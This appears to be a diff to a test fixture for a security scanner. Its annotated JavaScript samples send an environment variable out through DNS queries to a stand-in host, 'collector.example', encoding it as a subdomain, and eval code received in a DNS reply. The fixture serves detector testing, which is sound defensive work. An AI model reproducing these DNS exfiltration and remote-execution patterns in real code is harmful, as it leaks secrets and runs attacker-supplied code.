@@ -22,7 +22,7 @@ async function resolver() {
 
 function packets() {
   const socket = dgram.createSocket("udp4");
-  socket.send(packet.encode({ questions: [{ name: process.env.T }] }), 53, "ns.collector.example"); //~ source(ENVIRONMENT) f5, sink(egress.socket) f5, finding(traced) f5
+  socket.send(packet.encode({ questions: [{ name: process.env.T + ".collector.example" }] }), 53, "ns.collector.example"); //~ source(ENVIRONMENT) f5, sink(egress.socket) f5, finding(traced) f5
   socket.send(packet.encode({ questions: [{ name: "x" }] }), 53, "ns.collector.example"); //~ ok
   socket.on("message", (message) => { //~ source(NETWORK) f6
     eval(packet.decode(message).answers[0].data); //~ sink(exec.code) f6, finding(traced) f6
@@ -32,7 +32,7 @@ function packets() {
 
 function packetSocket() {
   const socket = new DnsSocket(); //~ capability(DNS)
-  socket.query({ questions: [{ name: process.env.T }] }, 53, "ns2.collector.example"); //~ source(ENVIRONMENT) f7, sink(egress.dns) f7, finding(traced) f7, endpoint("ns2.collector.example")
+  socket.query({ questions: [{ name: process.env.T + ".collector.example" }] }, 53, "ns2.collector.example"); //~ source(ENVIRONMENT) f7, sink(egress.dns) f7, finding(traced) f7, endpoint("ns2.collector.example")
   socket.query({ questions: [{ name: "x" }] }, 53, "ns2.collector.example"); //~ ok
   new (require("dns-socket"))().query({ questions: [] }, 53, "127.0.0.1"); //~ ok
 }
